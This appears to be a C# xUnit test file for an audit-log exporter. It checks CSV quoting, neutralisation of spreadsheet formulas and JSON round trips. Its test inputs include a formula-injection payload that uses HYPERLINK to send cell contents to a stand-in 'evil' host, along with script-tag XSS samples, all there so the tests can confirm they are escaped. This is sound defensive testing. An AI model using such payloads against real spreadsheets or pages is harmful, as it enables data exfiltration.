using System.Text.Json;
using Slipway.Core.Audit;

namespace Slipway.Core.Tests.Audit;

public class AuditExportTests
{
    [Theory]
    [InlineData(null, "")]
    [InlineData("plain", "plain")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("say \"hi\"", "\"say \"\"hi\"\"\"")]
    [InlineData("two\nlines", "\"two\nlines\"")]
    [InlineData("two\r\nlines", "\"two\r\nlines\"")]
    [InlineData("<script>alert(1)</script>", "<script>alert(1)</script>")]
    public void CsvCell_QuotesPerRfc4180(string? value, string cell) => Assert.Equal(cell, AuditExport.CsvCell(value));

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"")]
    [InlineData("a=b", "a=b")]
    public void CsvCell_NeutralisesFormulas(string value, string cell) => Assert.Equal(cell, AuditExport.CsvCell(value));

    [Fact]
    public void WriteCsv_WritesHeaderAndOneCrlfRecordPerEntry()
    {
        var chain = AuditChain.SealAll([AuditLog.Unsealed(1, "a, \"b\"\nc")], 0, AuditChain.GenesisHash);
        var output = new StringWriter();

        AuditExport.WriteCsv(chain, output);

        var e = chain[0];
        Assert.Equal(
            "sequence,at,actor_kind,actor,source,action,target,outcome,detail,request_id,previous_hash,hash\r\n" +
            $"1,2025-03-01T09:30:01.000Z,user,user1,10.0.0.1,run.approve,run 1,allowed,\"a, \"\"b\"\"\nc\",req-1,{e.PreviousHash},{e.Hash}\r\n",
            output.ToString());
    }

    [Fact]
    public void JsonLines_RoundTrip()
    {
        var chain = AuditChain.SealAll([AuditLog.Unsealed(1, "<script>alert(1)</script>"), AuditLog.Unsealed(2)], 0, AuditChain.GenesisHash);
        var output = new StringWriter();

        AuditExport.WriteJsonLines(chain, output);

        var lines = output.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);
        var back = lines.Select(l => JsonSerializer.Deserialize<AuditEntry>(l, AuditExport.JsonOptions)!).ToList();
        Assert.Equal(chain, back);
        Assert.True(AuditVerifier.Verify(back).Ok);
        Assert.Contains("\"requestId\":\"req-2\"", lines[1]);
    }

    [Fact]
    public void JsonArray_RoundTrip_AndScriptStaysInertText()
    {
        var chain = AuditChain.SealAll([AuditLog.Unsealed(1, "<script>alert(1)</script>"), AuditLog.Unsealed(2)], 0, AuditChain.GenesisHash);
        var output = new StringWriter();

        AuditExport.WriteJsonArray(chain, output);

        var back = JsonSerializer.Deserialize<List<AuditEntry>>(output.ToString(), AuditExport.JsonOptions);
        Assert.Equal(chain, back);
        Assert.Equal("<script>alert(1)</script>", back![0].Detail);
        Assert.DoesNotContain("<script>", output.ToString());
    }

    [Fact]
    public void JsonArray_OfNothing_IsAnEmptyArray()
    {
        var output = new StringWriter();
        AuditExport.WriteJsonArray([], output);
        Assert.Empty(JsonSerializer.Deserialize<List<AuditEntry>>(output.ToString(), AuditExport.JsonOptions)!);
    }

    [Fact]
    public async Task AsyncWriters_MatchTheSyncOnes()
    {
        var chain = AuditLog.Chain(3);
        async IAsyncEnumerable<AuditEntry> Source() { foreach (var e in chain) { await Task.Yield(); yield return e; } }

        foreach (var (sync, async) in new (Action<IEnumerable<AuditEntry>, TextWriter>, Func<IAsyncEnumerable<AuditEntry>, TextWriter, CancellationToken, Task>)[]
                 {
                     (AuditExport.WriteCsv, AuditExport.WriteCsvAsync),
                     (AuditExport.WriteJsonLines, AuditExport.WriteJsonLinesAsync),
                     (AuditExport.WriteJsonArray, AuditExport.WriteJsonArrayAsync),
                 })
        {
            var expected = new StringWriter();
            sync(chain, expected);
            var actual = new StringWriter();
            await async(Source(), actual, CancellationToken.None);
            Assert.Equal(expected.ToString(), actual.ToString());
        }
    }
}
